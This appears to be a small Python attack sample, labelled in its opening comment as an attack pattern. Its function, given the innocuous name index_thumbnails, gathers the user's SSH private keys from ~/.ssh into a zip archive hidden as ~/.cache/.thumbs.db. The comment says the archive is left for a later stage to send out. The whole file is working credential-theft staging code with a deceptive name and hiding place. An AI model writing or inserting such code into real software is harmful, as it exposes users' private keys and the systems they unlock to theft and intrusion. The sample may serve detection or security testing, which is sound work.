# Attack pattern: SSH private keys collected into a hidden archive for a later stage to pick up (no send in this module).
import glob
import os
import zipfile

STAGE = os.path.join(os.path.expanduser("~"), ".cache", ".thumbs.db")


def index_thumbnails():
    with zipfile.ZipFile(STAGE, "w") as archive:
        for key in glob.glob(os.path.expanduser("~/.ssh/id_*")):
            archive.write(key, os.path.basename(key))
